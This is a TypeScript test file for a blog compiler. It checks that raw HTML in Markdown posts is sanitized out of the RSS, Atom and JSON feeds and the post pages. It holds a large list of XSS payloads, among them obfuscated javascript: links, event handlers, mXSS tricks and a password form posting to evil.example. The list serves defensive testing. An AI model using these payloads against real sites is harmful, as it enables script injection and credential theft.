import { XMLParser } from "fast-xml-parser";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import type { SourceFile } from "../../src/compiler/compile.js";
import { postPath } from "../../src/urls.js";
import { checkWellFormedXml, validateJsonFeed } from "../support/validators.js";
import { compile, dangers, memoryApp, postText, SITE_URL, type StartTag, startTags } from "./support.js";

/**
 * Issue 6: raw HTML in Markdown bodies and summary bullets. Nothing that runs code, loads
 * another document, submits a form or restyles the page reaches any feed (RSS description
 * and content:encoded, Atom summary and content, JSON Feed content_html) or the post page;
 * ordinary article markup does.
 */

interface Payload {
  name: string;
  markdown: string;
  /** Visible text that must survive the sanitizer (the link text of a neutered link, …). */
  keeps?: string;
  /** Markdown syntax that markdown-it itself already renders inert (it refuses `javascript:` links, escapes titles). */
  inertMarkdown?: true;
}

const PAYLOADS: Payload[] = [
  // <script>, in every spelling
  { name: "script", markdown: "<script>alert(1)</script>" },
  { name: "script src upper", markdown: "<SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
  { name: "script split", markdown: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "script inline", markdown: "Text <script>alert(1)</script> more." },
  { name: "script in template", markdown: "<template><script>alert(1)</script></template>" },
  { name: "script after comment", markdown: "<!-- --><script>alert(1)</script><!-- -->" },
  // event handlers on many tags
  { name: "img onerror", markdown: "<img src=x onerror=alert(1)>" },
  { name: "img ONERROR quoted", markdown: '<img src="x" ONERROR="alert(1)" alt="pic">' },
  { name: "img onerror slash", markdown: '<img/src="x"/onerror="alert(1)">', inertMarkdown: true },
  { name: "body onload", markdown: "<body onload=alert(1)>" },
  { name: "svg onload", markdown: "<svg onload=alert(1)><circle r=1 /></svg>" },
  { name: "div onclick", markdown: '<div onclick="alert(1)">click me</div>', keeps: "click me" },
  {
    name: "a onmouseover",
    markdown: '<a href="https://ok.example/" onmouseover="alert(1)">hover me</a>',
    keeps: "hover me",
  },
  { name: "p onpointerenter", markdown: "<p onpointerenter=alert(1)>pointer</p>", keeps: "pointer" },
  { name: "details ontoggle", markdown: "<details open ontoggle=alert(1)><summary>s</summary>d</details>" },
  { name: "video source onerror", markdown: '<video><source onerror="alert(1)"></video>' },
  { name: "input onfocus", markdown: "<input autofocus onfocus=alert(1)>" },
  { name: "marquee onstart", markdown: "<marquee onstart=alert(1)>m</marquee>" },
  {
    name: "table background",
    markdown: '<table background="javascript:alert(1)"><tr><td onmouseover=alert(1)>c</td></tr></table>',
  },
  { name: "span onanimationstart", markdown: '<span onanimationstart="alert(1)" style="animation:x">s</span>' },
  // javascript:, vbscript:, data: links, plain and obfuscated
  { name: "a javascript", markdown: '<a href="javascript:alert(1)">js link</a>', keeps: "js link" },
  { name: "a JaVaScRiPt", markdown: '<a href="JaVaScRiPt:alert(1)">mixed case</a>', keeps: "mixed case" },
  { name: "a leading space", markdown: '<a href=" javascript:alert(1)">space</a>', keeps: "space" },
  { name: "a tab entity hex", markdown: '<a href="jav&#x09;ascript:alert(1)">tab hex</a>', keeps: "tab hex" },
  { name: "a tab entity dec", markdown: '<a href="jav&#9;ascript:alert(1)">tab dec</a>', keeps: "tab dec" },
  { name: "a newline entity", markdown: '<a href="jav&#x0A;ascript:alert(1)">newline</a>', keeps: "newline" },
  { name: "a raw newline", markdown: '<a href="java\nscript:alert(1)">raw newline</a>', keeps: "raw newline" },
  {
    name: "a all entities",
    markdown: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    keeps: "entities",
  },
  { name: "a colon entity", markdown: '<a href="javascript&colon;alert(1)">colon</a>', keeps: "colon" },
  { name: "a control prefix", markdown: '<a href="&#x01;javascript:alert(1)">control</a>', keeps: "control" },
  { name: "a vbscript", markdown: '<a href="vbscript:msgbox(1)">vb</a>', keeps: "vb" },
  {
    name: "a data html base64",
    markdown: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data b64</a>',
    keeps: "data b64",
  },
  {
    name: "a data html",
    markdown: '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>',
    keeps: "data",
  },
  { name: "md javascript", markdown: "[md js](javascript:alert(1))", keeps: "md js", inertMarkdown: true },
  { name: "md JAVASCRIPT", markdown: "[md upper](JAVASCRIPT:alert(1))", keeps: "md upper", inertMarkdown: true },
  { name: "md entity tab", markdown: "[md tab](jav&#x09;ascript:alert(1))", keeps: "md tab", inertMarkdown: true },
  { name: "md angle", markdown: "[md angle](<javascript:alert(1)>)", keeps: "md angle", inertMarkdown: true },
  { name: "md vbscript", markdown: "[md vb](vbscript:msgbox(1))", keeps: "md vb", inertMarkdown: true },
  { name: "md data", markdown: "[md data](data:text/html;base64,PHNjcmlwdD4=)", keeps: "md data", inertMarkdown: true },
  { name: "md reference", markdown: "[md ref][r]\n\n[r]: javascript:alert(1)", keeps: "md ref", inertMarkdown: true },
  { name: "md autolink", markdown: "<javascript:alert(1)>", inertMarkdown: true },
  { name: "md image javascript", markdown: "![img js](javascript:alert(1))", inertMarkdown: true },
  { name: "img src javascript", markdown: '<img src="javascript:alert(1)" alt="x">' },
  {
    name: "md title quote",
    markdown: '[t](https://ok.example/ "\\" onmouseover=\\"alert(1)")',
    keeps: "t",
    inertMarkdown: true,
  },
  { name: "md image alt quote", markdown: '![" onerror="alert(1)](https://ok.example/x.png)', inertMarkdown: true },
  { name: "fence info quote", markdown: '```js" onmouseover="alert(1)\ncode\n```', keeps: "code", inertMarkdown: true },
  {
    name: "fence info script",
    markdown: '```"><script>alert(1)</script>\ncode\n```',
    keeps: "code",
    inertMarkdown: true,
  },
  // embedded documents, plugins, forms
  { name: "iframe", markdown: '<iframe src="https://evil.example"></iframe>' },
  { name: "iframe srcdoc", markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "iframe javascript", markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: "object",
    markdown: '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
  },
  { name: "embed", markdown: '<embed src="https://evil.example/x.swf">' },
  { name: "applet", markdown: '<applet code="X.class"></applet>' },
  {
    name: "form",
    markdown:
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  },
  { name: "textarea select", markdown: "<textarea>t</textarea><select><option>o</option></select>" },
  // SVG and MathML
  { name: "svg script", markdown: "<svg><script>alert(1)</script></svg>" },
  { name: "svg xlink", markdown: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { name: "svg animate", markdown: '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>' },
  {
    name: "math mxss",
    markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  },
  { name: "noscript mxss", markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>' },
  // style
  { name: "style url", markdown: "<style>body { background: url(javascript:alert(1)) }</style>" },
  { name: "style expression", markdown: "<style>* { width: expression(alert(1)) }</style>" },
  { name: "style import", markdown: "<style>@import 'https://evil.example/x.css';</style>" },
  {
    name: "style attribute url",
    markdown: '<p style="background:url(javascript:alert(1))">styled</p>',
    keeps: "styled",
  },
  {
    name: "style attribute expression",
    markdown: '<div style="width: expression(alert(1))">expr</div>',
    keeps: "expr",
  },
  // document-changing head elements
  { name: "meta refresh", markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: "meta refresh site", markdown: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: "base href", markdown: '<base href="https://evil.example/">' },
  { name: "link import", markdown: '<link rel="import" href="https://evil.example/x.html">' },
  { name: "link stylesheet", markdown: "<link rel=stylesheet href=https://evil.example/x.css>" },
  // markup that tries to close the surrounding page
  { name: "close article", markdown: "</div></article></main><script>alert(1)</script>" },
  { name: "cdata end", markdown: "]]><script>alert(1)</script><![CDATA[" },
];

/** Ordinary article markup in Markdown only (no raw HTML). */
const ORDINARY_MARKDOWN = `Intro with **bold**, *em*, \`code\` and [a link](https://example.org/page).

| Name | Value |
| --- | ---: |
| alpha | 1 |

\`\`\`ts
const x: number = 1;
\`\`\`

> A quotation.

- one
- two

1. first
2. second

![Alt text of the photo](/images/x.jpg)
`;

/** Ordinary article markup written as raw HTML (the sanitizer's path). */
const ORDINARY_HTML = `<figure><img src="/images/x.jpg" alt="A map of the islands"><figcaption>A caption for the map</figcaption></figure>

<table><thead><tr><th>Name</th><th>Value</th></tr></thead><tbody><tr><td>beta</td><td>2</td></tr></tbody></table>

<pre><code class="language-python">print("hi")</code></pre>

<blockquote><p>Quoted words.</p></blockquote>

<ul><li>item one</li><li>item two</li></ul>

<ol start="3"><li>third</li></ol>

<p>A <a href="/posts/other">relative link</a> and <em>emphasis</em>.</p>
`;

/**
 * Each payload twice: once also as a summary bullet (the feeds' description), once without
 * a summary (the description is then the excerpt of the body).
 */
function files(): SourceFile[] {
  const list: SourceFile[] = PAYLOADS.flatMap((p, i) => [
    {
      path: `posts/payload-${i}.md`,
      text: postText(
        {
          title: `Payload ${i}: ${p.name}`,
          date: new Date(Date.UTC(2025, 0, 1, 0, i)).toISOString(),
          slug: `payload-${i}`,
          summary: [p.markdown, `Bullet of payload ${i}`],
        },
        p.markdown,
      ),
    },
    {
      path: `posts/payload-${i}-excerpt.md`,
      text: postText(
        {
          title: `Payload ${i} without summary: ${p.name}`,
          date: new Date(Date.UTC(2025, 0, 2, 0, i)).toISOString(),
          slug: `payload-${i}-excerpt`,
        },
        p.markdown,
      ),
    },
  ]);
  list.push(
    {
      path: "posts/ordinary-markdown.md",
      text: postText({ title: "Ordinary Markdown", date: "2024-06-01T00:00:00Z" }, ORDINARY_MARKDOWN),
    },
    {
      path: "posts/ordinary-html.md",
      text: postText({ title: "Ordinary HTML", date: "2024-06-02T00:00:00Z" }, ORDINARY_HTML),
    },
  );
  return list;
}

const out = compile(files());
const app = memoryApp(out);

const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: "@_",
  parseTagValue: false,
  isArray: (name) => ["item", "entry", "link"].includes(name),
});
const text = (node: unknown): string =>
  typeof node === "string" ? node : ((node as { "#text"?: string } | undefined)?.["#text"] ?? "");

/** Every HTML fragment of one post, by where it was published. */
type Fragments = Record<string, string>;

async function get(path: string): Promise<string> {
  const response = await app.request(path);
  expect(response.status, path).toBe(200);
  return response.text();
}

async function collect(): Promise<Map<string, Fragments>> {
  const byUrl = new Map<string, Fragments>();
  const pages = Math.ceil(out.stats.published / 100);
  for (let page = 1; page <= pages; page++) {
    const query = page === 1 ? "?limit=100" : `?page=${page}&limit=100`;
    await collectPage(
      byUrl,
      await get(`/rss.xml${query}`),
      await get(`/atom.xml${query}`),
      await get(`/feed.json${query}`),
    );
  }
  for (const url of byUrl.keys()) (byUrl.get(url) as Fragments)["post page"] = await get(new URL(url).pathname);
  return byUrl;
}

async function collectPage(byUrl: Map<string, Fragments>, rss: string, atom: string, json: string) {
  expect(checkWellFormedXml(rss)).toEqual([]);
  expect(checkWellFormedXml(atom)).toEqual([]);
  expect(validateJsonFeed(JSON.parse(json))).toEqual([]);
  const add = (url: string, where: string, html: string) => {
    const entry = byUrl.get(url) ?? {};
    entry[where] = html;
    byUrl.set(url, entry);
  };
  for (const item of xml.parse(rss).rss.channel.item as Record<string, unknown>[]) {
    const url = text((item.link as unknown[])[0]);
    add(url, "RSS description", text(item.description));
    add(url, "RSS content:encoded", text(item["content:encoded"]));
  }
  for (const entry of xml.parse(atom).feed.entry as Record<string, unknown>[]) {
    const url = (entry.link as Record<string, string>[]).find((l) => (l["@_rel"] ?? "alternate") === "alternate")?.[
      "@_href"
    ] as string;
    add(url, "Atom summary", text(entry.summary));
    add(url, "Atom content", text(entry.content));
  }
  for (const item of JSON.parse(json).items as { url: string; content_html: string }[]) {
    add(item.url, "JSON content_html", item.content_html);
  }
}

const fragments = await collect();

/** The visible text of HTML: tags dropped, the few references sanitizers write decoded. */
function visibleText(html: string): string {
  return html
    .replace(/<[^>]*>/g, "")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");
}

describe("raw HTML in Markdown", () => {
  it("publishes every post, with a feed entry in every format", () => {
    expect(out.problems.filter((p) => p.severity === "error")).toEqual([]);
    expect(out.stats.published).toBe(2 * PAYLOADS.length + 2);
    expect(fragments.size).toBe(2 * PAYLOADS.length + 2);
    for (const [url, found] of fragments) expect(Object.keys(found).sort(), url).toHaveLength(6);
  });

  it("has a scanner that sees every raw-HTML payload when nothing sanitizes it", () => {
    const unsafe = new MarkdownIt({ html: true });
    for (const p of PAYLOADS.filter((p) => !p.inertMarkdown)) {
      expect(dangers(unsafe.render(p.markdown)).length, p.name).toBeGreaterThan(0);
    }
  });

  describe.each(PAYLOADS.map((p, i) => ({ ...p, i })))("payload $i: $name", ({ i, keeps }) => {
    const urls = [`payload-${i}`, `payload-${i}-excerpt`].map((slug) => `${SITE_URL}${postPath(slug)}`);

    it("reaches no feed and no page in a form that runs, loads or submits anything", () => {
      for (const url of urls) {
        const found = fragments.get(url) as Fragments;
        expect(found, url).toBeDefined();
        for (const [where, html] of Object.entries(found)) {
          expect(dangers(html, { page: where === "post page" }), `${url}: ${where}`).toEqual([]);
        }
      }
    });

    if (keeps !== undefined) {
      it("keeps the visible text", () => {
        for (const url of urls) {
          const found = fragments.get(url) as Fragments;
          for (const where of ["RSS content:encoded", "Atom content", "JSON content_html", "post page"]) {
            expect(visibleText(found[where] as string), `${url}: ${where}`).toContain(keeps);
          }
        }
      });
    }
  });

  it("serves post pages under a Content-Security-Policy that allows no script at all", async () => {
    const response = await app.request(postPath("payload-0"));
    const csp = response.headers.get("content-security-policy") ?? "";
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).not.toMatch(/script-src/);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
  });
});

/** The start tags of `html` named `name`. */
const tagsNamed = (html: string, name: string): StartTag[] => startTags(html).filter((t) => t.name === name);
const attr = (tag: StartTag | undefined, name: string) => tag?.attrs.find(([a]) => a === name)?.[1];

describe("ordinary markup survives", () => {
  const WHERE = ["RSS content:encoded", "Atom content", "JSON content_html", "post page"];

  it.each(WHERE)("Markdown tables, code, quotes, lists and images in %s", (where) => {
    const html = fragments.get(`${SITE_URL}${postPath("ordinary-markdown")}`)?.[where] as string;
    for (const name of [
      "strong",
      "em",
      "code",
      "a",
      "table",
      "thead",
      "tbody",
      "tr",
      "th",
      "td",
      "pre",
      "blockquote",
      "ul",
      "ol",
      "li",
      "img",
    ]) {
      expect(tagsNamed(html, name).length, `<${name}>`).toBeGreaterThan(0);
    }
    expect(tagsNamed(html, "code").map((t) => attr(t, "class"))).toContain("language-ts");
    expect(tagsNamed(html, "a").map((t) => attr(t, "href"))).toContain("https://example.org/page");
    const photo = tagsNamed(html, "img").find((t) => attr(t, "alt") === "Alt text of the photo");
    expect(attr(photo, "src")).toBe(`${SITE_URL}/images/x.jpg`);
    const text = visibleText(html);
    for (const words of ["Intro with", "alpha", "const x: number = 1;", "A quotation.", "first", "second"]) {
      expect(text).toContain(words);
    }
    expect(dangers(html, { page: where === "post page" })).toEqual([]);
  });

  it.each(WHERE)("raw HTML figures, tables, code, quotes and lists in %s", (where) => {
    const html = fragments.get(`${SITE_URL}${postPath("ordinary-html")}`)?.[where] as string;
    for (const name of [
      "figure",
      "figcaption",
      "img",
      "table",
      "thead",
      "tbody",
      "tr",
      "th",
      "td",
      "pre",
      "code",
      "blockquote",
      "ul",
      "ol",
      "li",
      "a",
      "em",
    ]) {
      expect(tagsNamed(html, name).length, `<${name}>`).toBeGreaterThan(0);
    }
    const map = tagsNamed(html, "img").find((t) => attr(t, "alt") === "A map of the islands");
    expect(attr(map, "src")).toBe(`${SITE_URL}/images/x.jpg`);
    expect(tagsNamed(html, "code").map((t) => attr(t, "class"))).toContain("language-python");
    expect(tagsNamed(html, "ol").map((t) => attr(t, "start"))).toContain("3");
    expect(tagsNamed(html, "a").map((t) => attr(t, "href"))).toContain(`${SITE_URL}/posts/other`);
    const text = visibleText(html);
    for (const words of ["A caption for the map", "beta", 'print("hi")', "Quoted words.", "item two", "third"]) {
      expect(text).toContain(words);
    }
    expect(dangers(html, { page: where === "post page" })).toEqual([]);
  });
});
